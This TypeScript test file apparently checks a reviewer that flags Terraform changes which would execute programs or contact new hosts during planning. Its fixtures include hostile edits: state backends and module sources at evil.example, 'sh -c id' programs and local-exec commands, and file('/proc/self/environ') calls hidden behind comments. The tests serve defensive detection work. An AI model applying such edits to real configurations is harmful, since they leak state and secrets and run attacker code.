import fc from "fast-check";
import { planningParts } from "../../../review/planning/planning-parts";
import { unknownParts } from "../../../review/planning/unknown-parts";
import type { JsonObject } from "../../../verify/terraform/terraform-configuration";
import { synthesizedText } from "../../fixtures/synthesized";

/** A stack that is free to edit. */
// biome-ignore lint/suspicious/noExplicitAny: edits reach anywhere
type Stack = any;

type Edit = (stack: Stack) => void;

const stack = (): Stack => JSON.parse(synthesizedText("dev"));

/** A base branch with a program, a host and a folder that are trusted. */
function trusted(): Stack {
  const json = stack();
  json.locals = { host: "https://example.com", other: 1 };
  json.variable = { name: { default: "who" } };
  json.data.http = { list: { url: "${local.host}/${var.name}" } };
  json.data.external = { who: { program: ["who"], query: { id: "${aws_vpc.network_vpc.id}" } } };
  json.module = { inner: { source: "./assets/module" } };
  json.output.text = { value: '${file("assets/text")}' };
  return json;
}

function textsAfter(base: Stack, edit: Edit, files = "same"): readonly string[] {
  const json = structuredClone(base);
  edit(json);
  // An edit may leave undefined, which JSON does not have.
  const after = JSON.parse(JSON.stringify(json)) as JsonObject;
  const same = planningParts(base, "same");
  return unknownParts(planningParts(after, files), { same, others: [] }).flatMap(({ texts }) => texts);
}

const expression =
  (call: string): Edit =>
  (json) => {
    json.output.text = { value: `a \${${call}} b` };
  };

test.each<readonly [string, Edit, RegExp]>([
  [
    "another version of a provider",
    (json) => {
      json.terraform.required_providers.aws.version = "6.26.0";
    },
    /^terraform\.required_providers\.aws\.version changes from >= 6\.25\.0, <= 6\.66\.0 to 6\.26\.0$/,
  ],
  [
    "another source of a provider",
    (json) => {
      json.terraform.required_providers.aws.source = "evil/aws";
    },
    /^terraform\.required_providers\.aws\.source changes from /,
  ],
  [
    "another provider",
    (json) => {
      json.terraform.required_providers.evil = { source: "evil/evil" };
    },
    /^terraform\.required_providers\.evil\.source is added: evil\/evil$/,
  ],
  [
    "a provider that only the type of a resource names",
    (json) => {
      json.resource.evil_thing = { one: {} };
    },
    /^implied provider evil is added$/,
  ],
  [
    "a provider that only the argument of a resource names",
    (json) => {
      json.resource.aws_vpc.network_vpc.provider = "evil.x";
    },
    /^implied provider evil is added$/,
  ],
  [
    "another host for requests of the provider",
    (json) => {
      json.provider.aws[0].endpoints = [{ sts: "https://evil.example" }];
    },
    /^provider\.aws\.endpoints\S* is added: /,
  ],
  [
    "a second configuration of the provider with another role",
    (json) => {
      json.provider.aws.push({ alias: "b", assume_role: [{ role_arn: "arn:aws:iam::999999999999:role/x" }] });
    },
    /^provider\.aws/,
  ],
  [
    "a Region that is no Region",
    (json) => {
      json.provider.aws[0].region = "evil.example/";
    },
    /^provider\.aws\.region is added: evil\.example\/$/,
  ],
  [
    "a Region that an expression computes",
    (json) => {
      json.provider.aws[0].region = "${local.region}";
    },
    /^provider\.aws\.region is added: /,
  ],
  [
    "another backend",
    (json) => {
      json.terraform.backend = { http: { address: "https://evil.example" } };
    },
    /^terraform\.backend\.http\.address is added: https:\/\/evil\.example$/,
  ],
  [
    "another bucket of the state",
    (json) => {
      json.terraform.backend = { s3: { bucket: "evil", key: "k" } };
    },
    /^terraform\.backend\.s3\.bucket is added: evil$/,
  ],
  [
    "HCP Terraform",
    (json) => {
      json.terraform.cloud = { organization: "evil" };
    },
    /^terraform\.cloud\.organization is added: evil$/,
  ],
  [
    "a module from elsewhere",
    (json) => {
      json.module = { m: { source: "git::https://evil.example/m" } };
    },
    /^module\.m\.source is added: git::https:\/\/evil\.example\/m$/,
  ],
  [
    "a program",
    (json) => {
      json.data.external = { e: { program: ["sh", "-c", "id"] } };
    },
    /^data\.external\.e\.program is added: \["sh","-c","id"\]$/,
  ],
  [
    "a request to a host",
    (json) => {
      json.data.http = { h: { url: "https://evil.example" } };
    },
    /^data\.http\.h\.url is added: https:\/\/evil\.example$/,
  ],
  [
    "a data source in a list of blocks",
    (json) => {
      json.data = [json.data, { external: [{ e: [{ program: ["id"] }] }] }];
    },
    /^data\.external\.e\.program is added: \["id"\]$/,
  ],
  [
    "a data source of AWS that reads content",
    (json) => {
      json.data.aws_s3_object = { o: { bucket: "b", key: "k" } };
    },
    /^data\.aws_s3_object\.o\.bucket is added: b$/,
  ],
  [
    "the state of another stack",
    (json) => {
      json.data.terraform_remote_state = { s: { backend: "http", config: { address: "https://evil.example" } } };
    },
    /^data\.terraform_remote_state\.s\.backend is added: http$/,
  ],
  [
    "a data source inside a check",
    (json) => {
      json.check = { c: { data: { http: { h: { url: "https://evil.example" } } } } };
    },
    /^check\.c\.data\.http\.h\.url is added: https:\/\/evil\.example$/,
  ],
  [
    "an ephemeral resource",
    (json) => {
      json.ephemeral = { aws_lambda_invocation: { l: { function_name: "f" } } };
    },
    /^ephemeral\.aws_lambda_invocation\.l\.function_name is added: f$/,
  ],
  [
    "an import",
    (json) => {
      json.import = [{ to: "aws_vpc.x", id: "vpc-1" }];
    },
    /^import\.to is added: aws_vpc\.x$/,
  ],
  [
    "a provisioner",
    (json) => {
      json.resource.terraform_data = { t: { provisioner: [{ "local-exec": { command: "id" } }] } };
    },
    /^resource\.terraform_data\.t\.provisioner\.local-exec\.command is added: id$/,
  ],
  [
    "a section of a Terraform that does not exist yet",
    (json) => {
      json.run = { program: "id" };
    },
    /^run\.program is added: id$/,
  ],
  ["a file of the machine", expression('file("/proc/self/environ")'), /^output\.text\.value calls file: /],
  ["a file behind a comment", expression('file/* * */("/x")'), /^output\.text\.value calls file: /],
  ["a file behind a line", expression('file # x (\n ("/x")'), /^output\.text\.value calls file: /],
  ["a file by its name with a namespace", expression('core::file("/x")'), /^output\.text\.value calls core::file: /],
  ["a function of a provider", expression("provider :: evil :: run()"), /calls provider::evil::run: /],
  ["a template", expression('templatefile("/x", {})'), /calls templatefile: /],
  ["a template in a text", expression("templatestring(local.x, {})"), /calls templatestring: /],
  ["a list of files", expression('join(",", fileset("/", "*"))'), /calls fileset: /],
  ["a function inside a text inside an expression", expression('upper("${filebase64("/x")}")'), /calls filebase64: /],
  ["a function that nobody knows", expression("futurefunction()"), /calls futurefunction: /],
  [
    "a file in the name of a key",
    (json) => {
      json.output.text = { value: { '${file("/x")}': 1 } };
    },
    /^output\.text\.value calls file: \$\{file\("\/x"\)\}$/,
  ],
  [
    "a file in a directive",
    (json) => {
      json.locals = { t: '%{ if fileexists("/x") }a%{ endif }' };
    },
    /^locals\.t calls fileexists: /,
  ],
])("a plan of a change would execute or contact something new: %s", (_, edit, expected) => {
  const texts = textsAfter(stack(), edit);

  expect(texts).toContainEqual(expect.stringMatching(expected));
});

test.each<readonly [string, Edit, string, string]>([
  [
    "a local value",
    (json) => {
      json.locals.host = "https://evil.example";
    },
    "same",
    "data.http.list refers to this: local.host changes from https://example.com to https://evil.example",
  ],
  [
    "a variable",
    (json) => {
      json.variable.name.default = "../x";
    },
    "same",
    "data.http.list refers to this: var.name.default changes from who to ../x",
  ],
  [
    "a resource",
    (json) => {
      json.resource.aws_vpc.network_vpc.cidr_block = "10.99.0.0/16";
    },
    "same",
    "data.external.who refers to this: aws_vpc.network_vpc.cidr_block changes from 10.10.0.0/16 to 10.99.0.0/16",
  ],
  ["the files of a local module", () => {}, "other", "module.inner refers to this: files changes from same to other"],
])(
  "a trusted block with the same text means something else when %s changes that it refers to",
  (_, edit, files, text) => {
    expect(textsAfter(trusted(), edit, files)).toContain(text);
  },
);

test.each<readonly [string, Edit]>([
  ["nothing", () => {}],
  [
    "every argument of a resource",
    (json) => {
      json.resource.aws_sagemaker_domain = {
        d: { domain_name: "${upper(local.other)}", note: "file(x) provider::x()" },
      };
    },
  ],
  [
    "tags, Region and account of the provider",
    (json) => {
      json.provider.aws[0] = { region: "us-gov-west-1", allowed_account_ids: ["111111111111"], default_tags: [] };
    },
  ],
  [
    "a move in the state",
    (json) => {
      json.moved = [{ from: "aws_vpc.a", to: "aws_vpc.b" }];
    },
  ],
  [
    "a data source that says who calls",
    (json) => {
      json.data.aws_caller_identity.second = {};
    },
  ],
  [
    "outputs, local values and variables that nothing trusted refers to",
    (json) => {
      Object.assign(json.locals, { other: 2, more: "${[for x in (var.name) : x if (true)]}" });
      json.variable.more = { default: "file" };
      json.output.more = { value: "$${file(1)} ${try(local.more, can(1))}" };
    },
  ],
  [
    "everything that is gone",
    (json) => {
      json.data = {};
      json.module = undefined;
      json.output = undefined;
    },
  ],
  [
    "comments and the order of names",
    (json) => {
      json.data.external.who = { "//": { x: 1 }, query: json.data.external.who.query, program: ["who"] };
    },
  ],
])("a plan of a change executes and contacts nothing new: %s", (_, edit) => {
  expect(textsAfter(trusted(), edit)).toEqual([]);
});

test("a trusted call of templatefile is a new one when the files of the stack change, since a template calls functions, too", () => {
  const base = stack();
  expression('templatefile("assets/x.tpl", {})')(base);

  expect(textsAfter(base, () => {})).toEqual([]);
  expect(textsAfter(base, () => {}, "other")).toEqual([
    expect.stringMatching(/^output\.text\.value calls templatefile: /),
  ]);
});

test("a part that another trusted stack has in the same place with the same content is trusted, and a similar one is not", () => {
  const json = trusted();
  const others = planningParts(json, "same");
  const unknownIn = (after: Stack) =>
    unknownParts(planningParts(after, "same"), { same: planningParts(stack(), "same"), others }).flatMap(
      ({ texts }) => texts,
    );

  expect(unknownIn(json)).toEqual([]);
  expect(unknownIn({ ...json, module: { other: json.module.inner } })).toEqual([
    expect.stringMatching(/^module\.other\.source is added/),
  ]);
});

test("whatever a section of another name holds, it is a part as a whole", () => {
  const known = new Set([
    "output",
    "locals",
    "variable",
    "moved",
    "resource",
    "data",
    "provider",
    "terraform",
    "module",
  ]);
  const section = fc
    .string({ minLength: 1 })
    .filter((name) => !known.has(name) && name !== "//" && name !== "ephemeral");
  fc.assert(
    fc.property(section, fc.jsonValue({ maxDepth: 2 }), (name, body) => {
      const json = JSON.parse(`{${JSON.stringify(name)}: ${JSON.stringify(body)}}`) as JsonObject;
      const parts = planningParts(json, "");

      expect(parts).toContainEqual(expect.objectContaining({ kind: "block", path: name }));
      expect(unknownParts(parts, { same: [], others: [] }).flatMap(({ texts }) => texts)).not.toEqual([]);
    }),
  );
});

test.each(["toString", "constructor", "__proto__", "hasOwnProperty"])(
  "a name that every object of JavaScript has is a name like any other: %s",
  (name) => {
    const json = JSON.parse(`{"section": {"${name}": 0}}`) as JsonObject;

    expect(unknownParts(planningParts(json, ""), { same: [], others: [] }).flatMap(({ texts }) => texts)).toEqual([
      `section.${name} is added: 0`,
    ]);
  },
);

test("a hostile text of a hundred thousand characters is searched for calls without delay", () => {
  const start = performance.now();
  for (const part of ["/**/", "a", "a ", "a::", "file ", "#\n", "*/"]) {
    planningParts({ locals: { x: `\${f${part.repeat(100_000 / part.length)}}` } }, "");
  }

  expect(performance.now() - start).toBeLessThan(2000);
});
